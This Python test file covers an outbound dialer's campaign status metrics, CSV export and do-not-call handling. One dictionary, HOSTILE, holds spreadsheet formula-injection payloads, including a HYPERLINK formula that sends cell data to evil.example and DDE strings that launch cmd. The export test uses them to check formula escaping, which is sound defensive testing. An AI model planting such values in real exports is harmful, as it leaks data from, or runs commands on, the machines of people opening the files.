"""Status (counts, lines in use, rates per campaign and per hour, deadlines at risk, next
retries), export (last call, retry time, deciding answer, formula escaping) and the
do-not-call list acting on contacts, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import Engine, insert, select, update
from sqlalchemy.orm import Session

from dialer import dnc
from dialer.db import CampaignNotFoundError
from dialer.export import export_campaign
from dialer.models import Attempt, Contact, ContactEvent, EventKind
from dialer.status import campaign_status, format_status
from dialer.store import DialerStore
from tests.component.dialer.dialer_data_helpers import ALWAYS_OPEN, T0, add_contacts, make_campaign

S = timedelta(seconds=1)


def attempt(
    engine: Engine,
    contact: int,
    result: str | None,
    invite_at: datetime | None,
    *,
    answered: timedelta | None = None,
    flow_after: timedelta | None = None,
    outcome: str | None = None,
    ended: bool = True,
    **extra: Any,
) -> None:
    answered_at = invite_at + answered if invite_at and answered is not None else None
    values = {
        "contact_id": contact,
        "started_at": invite_at or T0,
        "invite_at": invite_at,
        "answered_at": answered_at,
        "flow_started_at": answered_at + flow_after if answered_at and flow_after is not None else None,
        "ended_at": (invite_at or T0) + 60 * S if ended else None,
        "result": result,
        "flow_outcome": outcome,
        "worker": "w",
        **extra,
    }
    with Session(engine) as session, session.begin():
        session.execute(insert(Attempt), [values])
        counted = result != "cancelled"
        session.execute(
            update(Contact)
            .where(Contact.id == contact)
            .values(attempts=Contact.attempts + int(counted), last_result=result)
        )


def contact_state(engine: Engine, contact: int, **values: Any) -> None:
    with Session(engine) as session, session.begin():
        session.execute(update(Contact).where(Contact.id == contact).values(**values))


def test_dialer_data_status_counts_rates_and_risk(engine: Engine) -> None:
    cid = make_campaign(engine, calling_hours=ALWAYS_OPEN)
    urgent = add_contacts(engine, cid, 2, window=timedelta(hours=2), first_phone=13800000000)
    later = add_contacts(engine, cid, 4, window=timedelta(hours=20), first_phone=13900000000)
    hour = T0 - timedelta(hours=2)
    # urgent[0]: a person, connected at once, confirmed.
    attempt(engine, urgent[0], "answered_human", hour, answered=5 * S, flow_after=1 * S, outcome="confirmed")
    contact_state(engine, urgent[0], state="done", outcome="confirmed", outcome_at=T0)
    # urgent[1]: busy, due again in 10 minutes: at risk (deadline within 2 h).
    attempt(engine, urgent[1], "busy", hour + 5 * S)
    contact_state(engine, urgent[1], next_attempt_at=T0 + timedelta(minutes=10))
    # later[0]: a person who waited 3 s for the flow (abandoned) and declined.
    attempt(
        engine, later[0], "answered_human", T0 - 20 * S, answered=5 * S, flow_after=3 * S, outcome="declined"
    )
    contact_state(engine, later[0], state="done", outcome="declined", outcome_at=T0)
    # later[1]: an answering machine.
    attempt(engine, later[1], "answered_machine", T0 - 10 * S, answered=4 * S)
    contact_state(engine, later[1], next_attempt_at=T0 + timedelta(hours=1))
    # later[2]: in a call right now (counted once it has a result); a cancelled attempt counts nowhere.
    attempt(engine, later[2], "cancelled", T0 - 30 * S)
    attempt(engine, later[2], None, T0 - 5 * S, ended=False)
    contact_state(engine, later[2], state="in_call")
    # later[3]: on the do-not-call list, never dialled.
    contact_state(engine, later[3], dnc=True)

    status = campaign_status(engine, "march", T0, horizon=timedelta(hours=2))
    assert status.contacts == 6 and status.dnc == 1
    assert status.by_state == {"done": 2, "pending": 3, "in_call": 1}
    assert status.by_outcome == {"confirmed": 1, "declined": 1}
    assert status.lines_in_use == 1
    r = status.rates
    assert r.attempts == 4
    assert (r.contacts_dialled, r.contacts_reached, r.contacts_succeeded) == (4, 2, 1)
    assert r.connect_rate == pytest.approx(2 / 4)  # the machine is not a person; DNC not dialled
    assert r.success_rate == pytest.approx(1 / 2)
    assert r.machine_rate == pytest.approx(1 / 3)
    assert r.abandonment_rate == pytest.approx(1 / 2)
    assert [(h, x.attempts, x.contacts_reached) for h, x in status.hourly] == [
        (hour, 2, 1),
        (T0 - timedelta(hours=1), 2, 1),
    ]
    assert [c.contact_id for c in status.at_risk] == [urgent[1]]
    risky = status.at_risk[0]
    assert (risky.last_result, risky.next_retry) == ("busy", T0 + timedelta(minutes=10))
    assert risky.deadline == T0 + timedelta(hours=1)
    # Watched: in a call first, then the next retries, then the latest outcomes.
    assert [c.contact_id for c in status.watch][:3] == [later[2], urgent[1], later[1]]
    assert {c.contact_id: c.last_outcome for c in status.watch}[later[0]] == "declined"

    text = format_status(status)
    assert "connect rate: 50.0 % (2/4 contacts)  success rate: 50.0 % (1/2)" in text
    assert "machine rate: 33.3 % (1/3)  abandonment rate: 50.0 % (1/2)" in text
    assert "lines in use: 1" in text
    assert f"contact {urgent[1]} (row 3): pending, 1 attempts, last result busy" in text
    assert "deadline 2025-03-03T07:00:00+00:00" in text
    assert "+86" not in text  # no callee numbers on screen or in logs
    data = json.loads(json.dumps(status.as_dict()))
    assert data["rates"]["connect_rate"] == pytest.approx(0.5)
    assert data["at_risk"][0]["next_retry"] == (T0 + timedelta(minutes=10)).isoformat()
    with pytest.raises(CampaignNotFoundError):
        campaign_status(engine, "nope", T0)


def test_dialer_data_success_depends_on_the_campaign_kind(engine: Engine) -> None:
    cid = make_campaign(engine, "keep", kind="retention", calling_hours=ALWAYS_OPEN)
    first, second = add_contacts(engine, cid, 2)
    for contact, outcome in ((first, "retained"), (second, "confirmed")):
        attempt(engine, contact, "answered_human", T0, answered=5 * S, flow_after=S, outcome=outcome)
        contact_state(engine, contact, state="done", outcome=outcome, outcome_at=T0)
    status = campaign_status(engine, "keep", T0)
    assert status.success_outcomes == {"retained"}
    assert status.rates.success_rate == pytest.approx(0.5)
    assert campaign_status(engine, "keep", T0, extra_success=["confirmed"]).rates.success_rate == 1.0


HOSTILE = {
    "first_name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "last_name": "+cmd|' /C calc'!A0",
    "note": "@SUM(1+9)*cmd|' /C calc'!A0",
    "=bad column": "-2+3",
}


def test_dialer_data_export_has_last_call_retry_time_and_deciding_answer(engine: Engine) -> None:
    cid = make_campaign(engine, calling_hours=ALWAYS_OPEN)
    first, second, third = add_contacts(engine, cid, 3)
    attempt(engine, first, "busy", T0 - 600 * S, sip_status=486)
    attempt(engine, first, "cancelled", T0 - 300 * S)
    attempt(
        engine,
        first,
        "answered_human",
        T0 - 100 * S,
        answered=5 * S,
        flow_after=S,
        outcome="confirmed",
        sip_status=200,
        decision_text="yes I confirm",
        decision_confidence=0.87,
        recording_id="rec-1",
    )
    contact_state(engine, first, state="done", outcome="confirmed", outcome_at=T0, recording_id="rec-1")
    attempt(engine, second, "no_answer", T0 - 50 * S, sip_status=408)
    contact_state(engine, second, next_attempt_at=T0 + timedelta(minutes=30))
    contact_state(engine, third, first_name=HOSTILE["first_name"], last_name=HOSTILE["last_name"])
    with Session(engine) as session, session.begin():
        session.execute(
            update(Contact)
            .where(Contact.id == third)
            .values(
                fields={"product": "Fund A", "note": HOSTILE["note"], "=bad column": HOSTILE["=bad column"]}
            )
        )
    out = io.StringIO()
    assert export_campaign(engine, "march", out) == 3
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert list(rows[0])[-3:] == ["product", "note", "'=bad column"]
    by_phone = {r["phone"]: r for r in rows}
    done = by_phone["+8613800000000"]
    assert (done["attempts"], done["last_result"], done["last_sip_status"]) == ("2", "answered_human", "200")
    assert done["last_invite_at"] == (T0 - 100 * S).isoformat()
    assert done["answered_at"] == (T0 - 95 * S).isoformat()
    assert done["ended_at"] == (T0 - 40 * S).isoformat()
    assert (done["outcome"], done["decision_text"], done["decision_confidence"]) == (
        "confirmed",
        "yes I confirm",
        "0.87",
    )
    assert (done["retry_at"], done["recording_id"], done["state"]) == ("", "rec-1", "done")
    waiting = by_phone["+8613800000001"]
    assert (waiting["attempts"], waiting["last_result"], waiting["outcome"]) == ("1", "no_answer", "")
    assert waiting["retry_at"] == (T0 + timedelta(minutes=30)).isoformat()
    assert waiting["answered_at"] == "" and waiting["decision_text"] == ""
    hostile = by_phone["+8613800000002"]
    assert hostile["first_name"] == "'" + HOSTILE["first_name"]
    assert hostile["last_name"] == "'" + HOSTILE["last_name"]
    assert hostile["note"] == "'" + HOSTILE["note"]
    assert hostile["'=bad column"] == "'-2+3"
    assert hostile["attempts"] == "0" and hostile["retry_at"] == (T0 - timedelta(hours=1)).isoformat()
    assert "\n=" not in out.getvalue() and ",=" not in out.getvalue() and ",+cmd" not in out.getvalue()


def test_dialer_data_dnc_add_marks_contacts_and_stops_a_leased_call(engine: Engine) -> None:
    cid = make_campaign(engine, calling_hours=ALWAYS_OPEN)
    (first,) = add_contacts(engine, cid, 1)
    other = make_campaign(engine, "april")
    (same_number,) = add_contacts(engine, other, 1)  # the same number in another campaign
    store = DialerStore(engine)
    store.lease("w", T0, campaign="march")
    phone, added, marked = dnc.add(engine, "138 0000 0000", "asked on the phone", T0, region="CN")
    assert (phone, added, marked) == ("+8613800000000", True, 2)
    assert dnc.add(engine, "+8613800000000", "again", T0)[1:] == (False, 0)
    with Session(engine) as session:
        flags = {c.id: c.dnc for c in session.scalars(select(Contact))}
        kinds = [e.kind for e in session.scalars(select(ContactEvent).order_by(ContactEvent.id))]
    assert flags == {first: True, same_number: True}
    assert kinds.count(EventKind.DNC_MARKED) == 2
    assert store.lease("w", T0, limit=5) == []
    assert [e.phone for e in dnc.listing(engine)] == ["+8613800000000"]
